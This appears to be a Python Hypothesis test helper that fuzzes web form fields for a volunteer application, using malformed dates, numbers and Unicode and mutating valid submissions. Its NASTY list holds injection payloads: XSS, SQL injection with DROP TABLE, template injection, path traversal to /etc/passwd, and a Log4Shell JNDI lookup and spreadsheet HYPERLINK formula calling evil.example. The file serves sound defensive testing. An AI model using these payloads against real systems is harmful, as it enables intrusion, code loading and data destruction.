"""What people, keyboards, clipboards and attackers put into form fields."""

from hypothesis import strategies as st

# Strings that have broken web forms somewhere: injections, confusables, invisible and control
# characters, directions, normalisation traps, lengths and encodings.
NASTY = [
    "",
    " ",
    "\x00",
    "a\x00b",
    "\t\n\r",
    "\r\n\r\n",
    "\u2028\u2029",
    "\u202eevil\u202c",
    "\u2066x\u2069",
    "\u200b\u200c\u200d\ufeff",
    "\u200f\u200e\u061c",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "' OR 1=1 --",
    "'; DROP TABLE volunteers_volunteer; --",
    "{{ 7*7 }}",
    "{% debug %}",
    "${jndi:ldap://evil.example/a}",
    "%s%s%s%n",
    "%(secret)s",
    "../../../../etc/passwd",
    '=HYPERLINK("http://evil.example")',
    "+47 000",
    "@SUM(1+1)",
    "Ａｄｍｉｎ",  # full-width
    "аdmin",  # Cyrillic a
    "ﬁ",  # ligature
    "é",  # e + combining acute (NFD)
    "Å",  # Angstrom sign
    "Øystein Åsmund Ærø",
    "مرحبا",
    "שלום",
    "١٢٣٤٥٦٧",
    "０１２３",
    "𝟏𝟐𝟑",
    "😀" * 50,
    "Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǫ̗͉",
    "x" * 5000,
    "9" * 5000,
    "a" * 255 + "@example.test",
    "a@" + "b" * 250 + ".no",
    "nobody@" + "ex" * 130 + ".test",
    "NaN",
    "-Infinity",
    "1e309",
    "None",
    "null",
    "true",
    "[]",
    "{}",
]

NASTY_DATES = [
    "0001-01-01",
    "9999-12-31",
    "0000-00-00",
    "0000-01-01",
    "2026-02-30",
    "2027-02-29",
    "10000-01-01",
    "-0001-01-01",
    "1-1-1",
    "31.12.9999",
    "01.01.0001",
    "2026-13-01",
    "٢٠٢٧-٠١-٠١",
    "２０２７-０１-０１",
    "2027-01-01T00:00:00",
    "2027-01-01\x00",
]

NASTY_TIMES = ["24:00", "23:60", "02:30", "25:99", "-1:00", "00:00", "23:59:59.999999", "٠٢:٣٠"]

NASTY_NUMBERS = [
    "-1",
    "0",
    "1e309",
    "NaN",
    "inf",
    "9" * 30,
    "-" + "9" * 30,
    "0x10",
    "1.5",
    "٣",
    "２",
    " 5 ",
    "2147483648",
    "32768",
    "65536",
]


def garbage() -> st.SearchStrategy[str]:
    return st.one_of(
        st.sampled_from(NASTY),
        st.text(max_size=40),
        st.text(
            alphabet=st.characters(categories=["Cc", "Cf", "Zl", "Zp", "Zs", "Nd", "Mn"]),
            max_size=12,
        ),
    )


KIND_VALUES = {
    "date": st.one_of(st.sampled_from(NASTY_DATES), st.dates().map(lambda d: d.isoformat())),
    "time": st.one_of(
        st.sampled_from(NASTY_TIMES),
        st.times().map(lambda t: t.strftime("%H:%M")),
    ),
    "number": st.one_of(st.sampled_from(NASTY_NUMBERS), st.integers(-(2**70), 2**70).map(str)),
}


def value_for(kind: str) -> st.SearchStrategy[str]:
    specific = KIND_VALUES.get(kind)
    return st.one_of(specific, garbage()) if specific is not None else garbage()


def mutations(fields: dict[str, str]) -> st.SearchStrategy[list[tuple[str, str, object]]]:
    """One to three changes to a valid submission: a field set to garbage, dropped, or sent
    twice (the valid value and garbage, in either order)."""
    names = sorted(fields)

    def one(name: str):
        value = value_for(fields[name])
        return st.one_of(
            value.map(lambda v: ("set", name, v)),
            st.just(("drop", name, None)),
            value.map(lambda v: ("twice", name, v)),
            value.map(lambda v: ("twice_first", name, v)),
        )

    return st.lists(st.sampled_from(names).flatmap(one), min_size=1, max_size=3)


def apply(data: dict, changes) -> dict:
    data = dict(data)
    for op, name, value in changes:
        if op == "set":
            data[name] = value
        elif op == "drop":
            data.pop(name, None)
        elif op == "twice":
            data[name] = [*_as_list(data.get(name)), value]
        elif op == "twice_first":
            data[name] = [value, *_as_list(data.get(name))]
    return data


def _as_list(value) -> list:
    if value is None:
        return []
    return list(value) if isinstance(value, list | tuple) else [value]
